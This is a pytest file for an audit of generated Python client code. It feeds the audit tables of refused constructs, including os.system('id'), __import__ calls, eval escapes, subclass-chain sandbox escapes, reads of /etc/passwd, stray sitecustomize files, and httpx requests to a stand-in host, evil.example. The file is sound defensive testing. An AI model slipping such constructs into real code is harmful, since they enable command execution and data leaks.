"""The last look at generated code, which knows nothing of the document it came from."""

# ruff: noqa: E501 - one case a line: they are tables

from __future__ import annotations

import ast
import copy
import os
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from codegen.audit import audit_source, audit_tree
from krea_aleph.specdiff.errors import StepError

from .conftest import ROOT

PACKAGE = ROOT / "generated/krea_aleph_api"
KINDS = [
    "__init__.py",
    "client.py",
    "errors.py",
    "types.py",
    "options.py",
    "models/job.py",
    "api/jobs/get_job.py",
]
"""One module of each kind: what is allowed differs, what is refused here is refused in all."""

REFUSED = {
    "a call on import": 'print("x")',
    "a call of os": 'import os\nos.system("id")',
    "os by another name": "import os as json",
    "from os": "from os import system",
    "everything of os": "from os import *",
    "subprocess": "import subprocess",
    "importlib": "import importlib\nimportlib.import_module('os')",
    "ctypes": "import ctypes",
    "sys": "import sys\nx = sys.modules",
    "builtins": "import builtins",
    "pickle": "import pickle",
    "a module below one that is allowed": "import os.path",
    "sys out of typing": "from typing import sys",
    "sys out of typing, called": 'from typing import sys\nLock = sys.modules["os"].system\nLock("id")',
    "a relative escape": "from ...... import system",
    "everything of a neighbour": "from .types import *",
    "a module out of a neighbour": "from .client import httpx",
    "quote out of a neighbour": "from ..types import quote",
    "an import that depends": "if 1:\n    import os",
    "an import only for checkers, called": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    x = print()",
    "an import for checkers that are none": "TYPE_CHECKING = True\nif TYPE_CHECKING:\n    from ..types import UNSET",
    "an import in a try": "try:\n    import os\nexcept ImportError:\n    x = 1",
    "an import in a function": "def f() -> None:\n    import os",
    "an import from in a function": "def f() -> None:\n    from os import system",
    "an import in a class": "class A:\n    import os",
    "__import__": '__import__("os").system("id")',
    "__import__ in a function": 'def f() -> None:\n    __import__("os")',
    "eval": 'x = eval("1")',
    "eval by another name": 'Lock = eval\nx = Lock("1")',
    "eval in the place of a builtin": 'str = eval\nx = str("1")',
    "eval as a variable": 'def f() -> None:\n    dict = eval\n    dict("1")',
    "eval as a parameter": 'def f(str: object) -> None:\n    str("1")',
    "eval as a default": "def f(x: object = eval) -> None: ...",
    "eval without a call": "x = eval",
    "eval as a converter": "from attrs import field\nclass A:\n    x: str = field(converter=eval)",
    "exec in a function": 'def f() -> None:\n    exec("x")',
    "compile": 'x = compile("1", "", "eval")',
    "open in a function": 'def f() -> None:\n    open("/etc/passwd")',
    "breakpoint": "def f() -> None:\n    breakpoint()",
    "input": "def f() -> None:\n    input()",
    "getattr": 'def f() -> None:\n    getattr(f, "x")()',
    "setattr": 'def f() -> None:\n    setattr(f, "x", 1)',
    "vars": "def f() -> None:\n    vars()",
    "globals": 'def f() -> None:\n    globals()["x"] = 1',
    "type with three arguments": 'X = type("X", (), {})',
    "type in a function": 'def f() -> None:\n    type("X", (), {})',
    "a builtin through a dunder": "x = ().__class__",
    "subclasses": "x = ().__class__.__base__.__subclasses__()",
    "globals of a function": "def f() -> None:\n    f.__globals__",
    "globals of a function, called": 'def f() -> None:\n    f.__globals__["x"]()',
    "the code of a function": "def f() -> None:\n    x = f.__code__",
    "a frame": "async def f() -> None:\n    x = f().cr_frame.f_builtins",
    "a frame of a field": "class A:\n    cr_frame: object\ndef f(x: A) -> object:\n    return x.cr_frame",
    "a method in the place of another": "class A:\n    def f(self, x: object) -> None:\n        self.update = x",
    "an attribute of something else": "def f(x: object) -> None:\n    x.value = 1",
    "format that reads attributes": 'def f(x: str) -> str:\n    return "{0.__class__}".format(x)',
    "__builtins__": "x = __builtins__",
    "__loader__": "x = __loader__",
    "__file__": "x = __file__",
    "code in a default": "def f(x: int = print(1)) -> None: ...",
    "code in a default of a method": "class A:\n    def f(self, x: int = print(1)) -> None: ...",
    "code in an annotation": 'def f(x: print("x")) -> None: ...',
    "code in an annotation that waits": 'from __future__ import annotations\ndef f(x: print("x")) -> None: ...',
    "code in an annotation in quotes": "def f(x: \"print('x')\") -> None: ...",
    "code in a field's annotation": "class A:\n    x: print(1)",
    "code in a field's annotation in quotes": 'class A:\n    x: "__import__(1)"',
    "code in quotes in a list of types": "class A:\n    x: list['print(1)']",
    "code in a return annotation": 'def f() -> print("x"): ...',
    "code in a variable's annotation": "def f() -> None:\n    x: print(1) = 1",
    "code in a bound": 'from typing import TypeVar\nT = TypeVar("T", bound="print(1)")',
    "code in a typed dict": 'from typing import TypedDict\nX = TypedDict("X", {"a": "print(1)"})',
    "a lambda in an annotation": "x: (lambda: 1) = 1",
    "code in a decorator": "@print\ndef f() -> None: ...",
    "code in a decorator's call": "from attrs import define\n@define(print(1))\nclass A: ...",
    "code for a decorator": "from attrs import define\n@define(field_transformer=print)\nclass A: ...",
    "a decorator of one's own": "def define(x: object) -> None: ...\n@define\nclass A: ...",
    "a decorator that is an item": "@[print][0]\ndef f() -> None: ...",
    "code in a base": "class A(print(1)): ...",
    "a base that is an item": "class A([print][0]): ...",
    "a metaclass": "class A(metaclass=print): ...",
    "a class keyword": "class A(x=print): ...",
    "code in a class body": "class A:\n    x = print(1)",
    "a loop in a class body": "class A:\n    for x in (1,):\n        y = x",
    "a condition in a class body": "class A:\n    if 1:\n        x = 1",
    "a raise in a class body": "class A:\n    raise ValueError",
    "code in a comprehension": "x = {k: print(k) for k in (1, 2)}",
    "a list comprehension": "x = [print(k) for k in (1, 2)]",
    "a generator": "x = (print(k) for k in (1, 2))",
    "code in an f-string": "def f() -> str:\n    return f'{print(1)}'",
    "code in an f-string on import": "x = f'{print(1)}'",
    "a dunder in an f-string": "x = f'{().__class__}'",
    "code in the format of an f-string": "x = f'{1:{print(1)}}'",
    "a lambda": "x = lambda: 1",
    "a walrus": "def f() -> None:\n    if (x := 1): ...",
    "a walrus on import": "if (x := 1):\n    y = 1",
    "a loop at the top": "for x in (1,): ...",
    "a try at the top": "try:\n    x = 1\nexcept ValueError: ...",
    "a with at the top": "with x: ...",
    "a match": "match 1:\n    case 1: ...",
    "a raise at the top": "raise ValueError()",
    "a del at the top": "x = 1\ndel x",
    "a del of a name": "def f(x: int) -> None:\n    del x",
    "a bare expression": "x\ny.z",
    "an assertion": "def f() -> None:\n    assert f",
    "a global": "def f() -> None:\n    global x",
    "a nonlocal": "def f() -> None:\n    x = 1\n    def _parse_x() -> None:\n        nonlocal x",
    "a while": "def f() -> None:\n    while True: ...",
    "a yield": "def f():\n    yield 1",
    "an async for": "async def f(x: object) -> None:\n    async for y in x: ...",
    "an async with": "async def f(x: object) -> None:\n    async with x: ...",
    "another request": 'import httpx\ndef f() -> None:\n    httpx.post("https://evil.example")',
    "another client": "import httpx\ndef f() -> None:\n    httpx.Client(transport=httpx.HTTPTransport())",
    "a client on import": "import httpx\nx = httpx.Client()",
    "a client in a class of the module": "import httpx\nclass A:\n    def __init__(self) -> None:\n        httpx.Client()\nx = A()",
    "a class of one's own, called on import": "class A:\n    x = 1\nB = A()",
    "an exception on import": 'x = ValueError("x")',
    "a call of what was made": "def f() -> None:\n    (lambda: 1)()",
    "a call of an item": "def f(x: list[int]) -> None:\n    x[0]()",
    "a call of a call": "def f() -> None:\n    f()()",
    "a call of a variable": "def f(x: object) -> None:\n    x()",
    "a method that is not ours": "def f(x: str) -> None:\n    x.mro()",
    "a class of httpx that is not ours": "import httpx\nx: httpx.HTTPTransport",
    "a module through a module": "import httpx\nx = httpx._client",
    "a dunder name": "__builtins__ = 1",
    "a builtin with another meaning": "True_ = 1\nisinstance = print",
    "a name that stands for two things": "x = 1\nx = 2",
    "a hook for missing names": "def __getattr__(name: str) -> None: ...",
    "a list of names to look up": "__path__ = ['/tmp']",
    "a dunder method": "class A:\n    def __getattr__(self, name: str) -> None: ...",
    "a hook for subclasses": "class A:\n    def __init_subclass__(cls) -> None: ...",
    "a hook for item types": "class A:\n    def __class_getitem__(cls, x: object) -> None: ...",
    "a hook for names": "class A:\n    def __set_name__(self, a: object, b: object) -> None: ...",
    "a hook for bases": "class A:\n    def __mro_entries__(self, x: object) -> None: ...",
    "a hook for the end": "class A:\n    def __del__(self) -> None: ...",
    "slots": "class A:\n    __slots__ = ()",
    "an attribute of a class from outside": "class A: ...\nA.x = 1",
    "an item of something else": "x = {}\nx['a'] = 1",
    "several targets": "x, y = 1, 2",
    "an augmented assignment": "x = 1\nx += 1",
    "arithmetic": "x = 'a' * 10 ** 10",
    "a formatting": "x = '%s' % 1",
    "a type alias": "type X = int",
    "bytes": "x = b'a'",
    "a complex number": "x = 1j",
    "an infinite number": "x = 1e999",
    "a number without end": "x = " + "9" * 5000,
    "a comment for the type checker": "x = 1  # type: ignore",
    "a comment for the linter": "x = 1  # noqa: S102",
    "a comment for the formatter": "# fmt: off\nx = 1",
    "a comment": "x = 1  # anything",
    "an encoding": "# -*- coding: utf-7 -*-\nx = 1",
    "an encoding of editors": "# vim: set fileencoding=latin-1 :\nx = 1",
    "a program": "#!/bin/sh\nx = 1",
    "a hidden character": 'x = "a\u202eb"',
    "a hidden character by its number": r'x = "a\u202eb"',
    "a hidden character in a docstring": r'"""a\u2066b"""',
    "a null by its number": r'x = "\0"',
    "a lone surrogate by its number": r'x = "\ud800"',
    "a line separator": 'x = "a"\u2028y = 1',
    "a line that python alone ends": 'x = "a"\ry = 1',
    "a form feed": "x = 1\x0cy = 1",
    "a byte order mark": "\ufeffx = 1",
    "a null": "x = 1\0",
    "bold letters": "\U0001d4ee\U0001d4ff\U0001d4ea\U0001d4f5 = 1",
    "bold letters that are eval": 'x = \U0001d4ee\U0001d4ff\U0001d4ea\U0001d4f5("1")',
    "wide letters that are a dunder": "\uff3f\uff3fbuiltins\uff3f\uff3f = 1",
    "letters of another script": "\u0430 = 1",
    "no Python": "def f(:",
    "Python 2": "print 1",
    "no end": "(" * 5_000,
    "an endless chain": "x = a" + ".b" * 50_000,
    "an endless text": 'x = "' + "a" * 20_001 + '"',
}  # fmt: skip


@pytest.mark.parametrize("source", REFUSED.values(), ids=REFUSED.keys())
def test_the_audit_refuses(source: str) -> None:
    """Code that generated code does not need is refused unread by any interpreter."""
    for name in KINDS:
        with pytest.raises(StepError) as caught:
            audit_source(source.encode("utf-8", "surrogatepass"), name)
        assert caught.value.step == "audit"
        assert str(caught.value).startswith(f"audit: {name}:")
        assert len(str(caught.value)) < 300
        assert str(caught.value).isascii(), "what is hostile is not printed as it is"


def test_the_audit_refuses_other_encodings() -> None:
    """A module that is not UTF-8 is refused."""
    for data in ["x = 'ä'".encode("latin-1"), "x = 1".encode("utf-16"), b"x = '\xed\xa0\x80'"]:
        with pytest.raises(StepError, match="no Python"):
            audit_source(data, "types.py")


def _package(folder: Path) -> Path:
    """Copy the generated package without what Python left in it."""
    package = folder / "package"
    shutil.copytree(PACKAGE, package, ignore=shutil.ignore_patterns("__pycache__"))
    return package


def test_the_generated_package_passes(tmp_path: Path) -> None:
    """What the generator makes today is exactly the kind of code that is allowed."""
    audit_tree(_package(tmp_path))


MODULES = sorted(path.relative_to(PACKAGE).as_posix() for path in PACKAGE.rglob("*.py"))
HOSTILE = [
    ast.parse(source, mode="eval").body
    for source in [
        'eval("1")', "eval", "print(1)", "open", "().__class__", "x.__globals__", "lambda: 1",
        "(x := 1)", "[y for y in (1,)]", "__builtins__", "__import__('os').system('id')", "1j",
        "f'{exec}'", "[print][0]()", "nowhere", "b'x'", "getattr", "type('X', (), {})", "'a' * 9",
    ]
]  # fmt: skip


class _Planting(ast.NodeTransformer):
    """Puts an expression in the place of the expression of a number."""

    def __init__(self, number: int, planted: ast.expr) -> None:
        self._left = number
        self._planted = planted

    def visit_JoinedStr(self, node: ast.JoinedStr) -> ast.AST:
        """Leave the texts of an f-string, which cannot be code, to themselves."""
        for value in node.values:
            if isinstance(value, ast.FormattedValue):
                value.value = self.visit(value.value)
        return node

    def generic_visit(self, node: ast.AST) -> ast.AST:
        if isinstance(node, ast.expr) and isinstance(getattr(node, "ctx", ast.Load()), ast.Load):
            self._left -= 1
            if self._left == -1:
                return copy.deepcopy(self._planted)
        return super().generic_visit(node)


def _planted(name: str, every: int) -> Iterator[str]:
    """Make variants of a module, each with something hostile in the place of one expression."""
    tree = ast.parse((PACKAGE / name).read_bytes())
    size = sum(isinstance(node, ast.expr) for node in ast.walk(tree))
    for number in range(0, size, every):
        planted = HOSTILE[number // every % len(HOSTILE)]
        changed = _Planting(number, planted).visit(copy.deepcopy(tree))
        source = ast.unparse(ast.fix_missing_locations(changed))
        if source != ast.unparse(tree):
            yield source


@pytest.mark.parametrize("every", [23, pytest.param(1, marks=pytest.mark.long)])
def test_nothing_hostile_hides_among_what_is_generated(every: int) -> None:
    """In the place of any expression of any generated module, hostile code is refused."""
    tried = 0
    for name in MODULES:
        for source in _planted(name, every):
            tried += 1
            with pytest.raises(StepError):
                audit_source(source.encode(), name)
    assert tried > 5_000 / every


STRAY = [
    "evil.pth", "sitecustomize.txt", "sitecustomize.py", "usercustomize.py", "conftest.py",
    "__main__.py", "setup.py", "setup.cfg", "models/lib.so", "models/conftest.py", "test_x.py",
    "models/__pycache__/job.cpython-311.pyc", "__pycache__/x.py", "api/jobs/deep/er.py",
    "models/Job.py", "models/job.pyi", "client.pyw", "client.PY", "other.py", "models/x.y.py",
    "models/-x.py", "models/x\n.py", "models/\u0430.py", ".hidden", "models/contract.json",
    "py.typed/x",
]  # fmt: skip


@pytest.mark.parametrize("name", STRAY)
def test_stray_files_are_refused(name: str, tmp_path: Path) -> None:
    """A file that no generated package has stops the run, whatever it holds."""
    package = _package(tmp_path)
    if name.startswith("py.typed/"):
        (package / "py.typed").unlink()
    (package / name).parent.mkdir(parents=True, exist_ok=True)
    (package / name).write_text("", encoding="utf-8")
    with pytest.raises(StepError, match="a file of this name"):
        audit_tree(package)


def test_links_are_refused(tmp_path: Path) -> None:
    """A symbolic link is no generated file, wherever it leads."""
    (tmp_path / "client.py").symlink_to("/etc/passwd")
    with pytest.raises(StepError, match="symbolic link"):
        audit_tree(tmp_path)
    (tmp_path / "client.py").unlink()
    (tmp_path / "models").symlink_to(PACKAGE / "models", target_is_directory=True)
    with pytest.raises(StepError, match="symbolic link"):
        audit_tree(tmp_path)


def test_what_is_no_file_is_refused(tmp_path: Path) -> None:
    """A pipe or a socket is refused without being read, which could wait for ever."""
    os.mkfifo(tmp_path / "client.py")
    with pytest.raises(StepError, match="a file of this kind"):
        audit_tree(tmp_path)
    (tmp_path / "client.py").unlink()
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(tmp_path / "types.py"))
        with pytest.raises(StepError, match="a file of this kind"):
            audit_tree(tmp_path)


def test_a_folder_is_no_module(tmp_path: Path) -> None:
    """A folder that is called like a module is looked into like any other."""
    (tmp_path / "client.py").mkdir()
    audit_tree(tmp_path)
    (tmp_path / "client.py" / "x.py").write_text("", encoding="utf-8")
    with pytest.raises(StepError, match="a file of this name"):
        audit_tree(tmp_path)


REQUESTS = {
    "another host": ('"url": "/jobs"', '"url": "https://evil.example/jobs"'),
    "a host after two slashes": ('"url": "/jobs"', '"url": "//evil.example"'),
    "a path that climbs": ('"url": "/jobs"', '"url": "/../admin"'),
    "a path from a variable": ('"url": "/jobs"', '"url": cursor'),
    "a path that is made": ('"url": "/jobs"', '"url": f"{cursor}"'),
    "a path that is put together": ('"url": "/jobs"', '"url": "/{x}".format(x=cursor)'),
    "no path": ('"url": "/jobs",', ""),
    "two paths": ('"url": "/jobs",', '"url": "/jobs", **params,'),
    "another method": ('"method": "get"', '"method": "CONNECT"'),
    "another key": ('"params": params,', '"params": params, "auth": cursor,'),
    "a path that is set later": ("return _kwargs", '_kwargs["url"] = cursor\n    return _kwargs'),
    "an update": ("return _kwargs", "_kwargs.update(params)\n    return _kwargs"),
    "another name for it": ("return _kwargs", "x = _kwargs\n    return x"),
    "another request": ("return _kwargs", "_kwargs = params\n    return _kwargs"),
    "a header of ours": ("return _kwargs", 'headers: dict[str, Any] = {}\n    headers["Host"] = cursor\n    return _kwargs'),
    "a header with a line end": ("return _kwargs", 'headers: dict[str, Any] = {}\n    headers["X\\r\\nY"] = cursor\n    return _kwargs'),
    "headers from elsewhere": ("return _kwargs", '_kwargs["headers"] = params\n    headers = params\n    return _kwargs'),
    "more than was built": ("**kwargs,\n", "**kwargs, url=cursor,\n"),
    "another client": ("client.get_httpx_client().request", "response.get_httpx_client().request"),
    "kwargs of somebody else": ("    response = client.get_httpx_client", "    kwargs = {}\n    response = client.get_httpx_client"),
}  # fmt: skip


@pytest.mark.parametrize(("old", "new"), REQUESTS.values(), ids=REQUESTS.keys())
def test_a_request_goes_where_the_contract_says(old: str, new: str) -> None:
    """A request that could go elsewhere, or carry something else, is refused."""
    source = (PACKAGE / "api/jobs/list_jobs.py").read_text(encoding="utf-8")
    assert old in source
    changed = source.replace(old, new, 1)
    ast.parse(changed)
    with pytest.raises(StepError) as caught:
        audit_source(changed.encode(), "api/jobs/list_jobs.py")
    assert caught.value.step == "audit"
